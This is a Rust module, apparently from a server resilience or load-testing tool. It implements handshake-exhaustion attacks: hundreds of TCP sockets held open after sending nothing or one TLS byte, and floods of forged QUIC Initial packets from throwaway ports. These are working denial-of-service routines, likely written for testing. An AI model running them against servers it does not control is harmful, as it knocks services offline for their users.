//! Handshakes that begin and do not end.

use std::{future::pending, time::Duration};

use rand::RngExt as _;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::UdpSocket,
    task::JoinSet,
    time::{MissedTickBehavior, interval, sleep},
};

use super::{Target, initial::Initial, wire};
use crate::Error;

/// How many sockets an attack on the TCP port keeps open.
const SOCKETS: u32 = 512;

pub(super) async fn tcp_silent(target: Target) -> Result<(), Error> {
    stuck(target, b"", 1).await
}

pub(super) async fn tcp_first_byte(target: Target) -> Result<(), Error> {
    stuck(target, &[0x16], 16).await
}

/// Keeps sockets open that have said a little and say no more.
async fn stuck(target: Target, said: &'static [u8], sources: u32) -> Result<(), Error> {
    let mut sockets = JoinSet::new();
    for number in 0..SOCKETS {
        let target = target.clone();
        sockets.spawn(async move {
            loop {
                let Ok(mut socket) = target.socket(wire::source(number % sources)).await else {
                    sleep(Duration::from_millis(100)).await;
                    continue;
                };
                let _ = socket.write_all(said).await;
                target.spent.sent(0, said.len());
                // Until the server closes it.
                let _ = socket.read(&mut [0; 64]).await;
                target.spent.ended();
                // A server that closes at once is not the reason to burn this machine's processors.
                sleep(Duration::from_millis(20)).await;
            }
        });
    }
    sockets.join_all().await;
    Ok(())
}

pub(super) async fn initials_26(target: Target) -> Result<(), Error> {
    initials(target, 26, u32::MAX).await
}

pub(super) async fn initials_500(target: Target) -> Result<(), Error> {
    initials(target, 500, u32::MAX).await
}

pub(super) async fn initials_one_source(target: Target) -> Result<(), Error> {
    initials(target, 500, 1).await
}

/// Sends first packets of handshakes whose answers nobody reads.
async fn initials(target: Target, per_second: u32, sources: u32) -> Result<(), Error> {
    let initial = Initial::capture(&target).await?;
    let to = target.udp()?;
    let mut due = interval(Duration::from_secs(1) / per_second);
    due.set_missed_tick_behavior(MissedTickBehavior::Burst);
    for number in 0.. {
        due.tick().await;
        let id: [u8; 8] = rand::rng().random();
        let packet = initial.forge(id).ok_or("the packet cannot be protected")?;
        // From a port that nobody listens on a moment later, as if the address were forged.
        let socket = UdpSocket::bind((wire::source(1 + number % sources), 0)).await?;
        socket.send_to(&packet, to).await?;
        target.spent.opened();
        target.spent.sent(1, packet.len());
    }
    // Not within the lifetime of a process.
    pending().await
}
